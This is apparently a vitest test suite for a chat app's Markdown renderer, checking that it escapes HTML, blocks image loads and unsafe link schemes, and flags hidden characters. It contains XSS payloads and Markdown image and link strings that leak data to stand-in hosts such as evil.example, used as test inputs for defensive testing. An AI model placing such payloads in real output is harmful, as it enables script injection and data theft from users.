// oxlint-disable-next-line import/no-unassigned-import -- must be there before the components are
import './messages-in-node'
import * as fc from 'fast-check'
import { createElement } from 'react'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, test } from 'vitest'
import { LinkSources } from '@/components/chat/markdown/link-sources'
import { Markdown, StreamedMarkdown } from '@/components/chat/markdown/Markdown'

const render = (text: string, typed: readonly string[] = []): string =>
  renderToStaticMarkup(
    createElement(
      LinkSources,
      { value: { typed, contents: [], endorsed: [] } },
      createElement(Markdown, { text }),
    ),
  )

describe('Markdown', () => {
  test('raw HTML is shown as text', () => {
    const html = render(
      '<img src=x onerror=alert(1)>\n\nHello <b>you</b> <script>alert(1)</script>',
    )
    expect(html).not.toMatch(/<(img|b|script)\b/)
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;')
    expect(html).toContain('&lt;b&gt;')
  })

  test('an image is never loaded, its host is named', () => {
    const html = render('![secret chart](https://tracker.example/p.png?d=secret)')
    expect(html).not.toMatch(/<img|d=secret/)
    expect(html).toContain('secret chart')
    expect(html).toContain('image at tracker.example, not loaded')
  })

  test('a link that the person typed opens apart, tells nothing, and shows where it goes', () => {
    const html = render('[my bank](https://bank.example.evil.example/login)', [
      'look at https://bank.example.evil.example/login',
    ])
    expect(html).toContain('href="https://bank.example.evil.example/login"')
    expect(html).toContain('target="_blank"')
    expect(html).toContain('rel="noopener noreferrer"')
    expect(html).toContain('(bank.example.evil.example)')
  })

  test('an address that is its own text is not said twice', () => {
    expect(render('https://sayso.example/x')).not.toContain('(sayso.example)')
  })

  test.each([
    '[x](javascript:alert(1))',
    '[x](data:text/html,hi)',
    '[x](http://plain.example)',
    '[x](chrome-extension://abc/options.html)',
    '[x](/relative)',
    '[x](https://you@evil.example)',
    '<javascript:alert(1)>',
  ])('%s is no link (RESULT-04)', (text) => {
    expect(render(text)).not.toMatch(/<(a|button) /)
  })

  test('a link that the person did not type has no address for the browser: only a question opens it (RESULT-06)', () => {
    const html = render('[https://google.com](https://evil.example/?d=secret)', ['google.com'])
    expect(html).not.toContain('href')
    expect(html).toMatch(/<button[^>]*>https:\/\/google\.com<\/button>/)
    expect(html).toContain('(evil.example)')
  })

  test('a mail link carries no message', () => {
    const html = render('[write](mailto:dora@gmail.com?bcc=eve@evil.example&body=hi)', [
      'dora@gmail.com',
    ])
    expect(html).toContain('href="mailto:dora@gmail.com"')
    expect(html).not.toContain('bcc')
  })

  test('a host in another script is shown in its ASCII form (RESULT-06)', () => {
    expect(render('[bank](https://b\u0430nk.example)')).toContain('(xn--bnk-6cd.example)')
  })

  test('a link to anything but a web page or a mail address is text, whatever its spelling (RESULT-04)', () => {
    const scheme = fc.constantFrom(
      'javascript:',
      'file:///',
      'http://127.0.0.1/',
      'chrome-extension://khleimnhdlapkgffdddlcpncigoeohda/',
      'data:text/html,',
      'blob:',
      'intent://',
      'view-source:',
    )
    const noise = fc.array(fc.constantFrom('', '\t', '\n', '&Tab;', '&#10;', '%0a', '\u200b'), {
      maxLength: 3,
    })
    fc.assert(
      fc.property(scheme, noise, fc.nat(6), (prefix, noises, at) => {
        const written = `${prefix.slice(0, at)}${noises.join('')}${prefix.slice(at)}x`
        const html = render(`[x](${written})`, [written])
        // An indented line is code, and code has a button of ours.
        if (!html.includes('<pre')) expect(html).not.toContain('<button ')
        expect(html).not.toContain('<a ')
      }),
    )
  })

  test('nothing loads at any point of a stream (RESULT-08)', () => {
    const pieces = [
      '![a](https://evil.example/?d=SECRET)',
      '![b][r]',
      '<img src=https://e.example>',
    ]
    const text = [
      ...pieces,
      '[c](https://evil.example/?d=SECRET)',
      '[r]: https://evil.example/r',
    ].join('\n\n')
    for (let end = 0; end <= text.length; end += 1) {
      const drawn = createElement(StreamedMarkdown, { text: text.slice(0, end) })
      expect(renderToStaticMarkup(drawn)).not.toMatch(
        /<(img|iframe|link|source)\b|<[^>]*\s(src|srcset|style)=/,
      )
    }
  })

  test('code, mathematics and diagrams are shown as written, with no preview (RESULT-09)', () => {
    const html = render(
      '```html\n<img src=x>\n```\n```mermaid\nclick A "https://e.example"\n```\n$\\href{https://e.example}{x}$',
    )
    expect(html).not.toMatch(/<(img|a|svg id)/)
    expect(html).toContain('&lt;img src=x&gt;')
    expect(html).toContain('click A')
  })

  test('hidden characters are shown as chips (RESULT-11)', () => {
    expect(render('pay\u200B ‮now')).toContain('1 hidden character')
    expect(render('hi\u{E0068}\u{E0069}')).toContain('hidden text: “hi”')
  })

  test('character references are resolved, in text only', () => {
    const html = render('a &amp; b &#60; &lt;b&gt; `&amp;`')
    expect(html).toContain('a &amp; b &lt; &lt;b&gt;')
    expect(html).toContain('&amp;amp;')
  })

  test('lists, tables and code keep their shape', () => {
    const html = render('3. three\n4. four\n\n- [x] done\n\n|a|b|\n|-|-:|\n|1|2|\n\n```ts\nx\n```')
    expect(html).toMatch(/<ol start="3"/)
    expect(html).toContain('☑')
    expect(html).toMatch(/<th scope="col"/)
    expect(html).toMatch(/<pre[^>]*><code>x<\/code>/)
  })

  test('whatever the text, only the tags of the allowlist come out', () => {
    const allowed =
      /^(div|p|h3|strong|em|del|code|br|a|span|ul|ol|li|blockquote|pre|section|table|thead|tbody|tr|th|td|hr|button|svg|path|rect|line|circle|polyline)$/
    const piece = fc.oneof(
      fc.string({ maxLength: 12 }),
      fc.constantFrom(
        '<iframe src=//x>',
        '![a](//x/y)',
        '[a](',
        '](javascript:x)',
        '\n\n',
        '|-|',
        '&lt;',
        '<svg/onload=x>',
        '**',
        '`',
        '    ',
        '> ',
        '- ',
      ),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 20 }), (pieces) => {
        const html = render(pieces.join(''))
        const tags = [...html.matchAll(/<\/?([a-z\d]+)/g)].map((m) => m[1] ?? '')
        expect(tags.filter((tag) => !allowed.test(tag))).toEqual([])
        expect(html).not.toMatch(/<[^>]*\s(src|on\w+|style)=/)
      }),
      { numRuns: 150 },
    )
  })

  test('a growing text draws what the finished one does', () => {
    const text = '# Title\n\n- one\n- two\n\n**bold** and `code`\n'
    expect(renderToStaticMarkup(createElement(StreamedMarkdown, { text }))).toBe(render(text))
  })
})
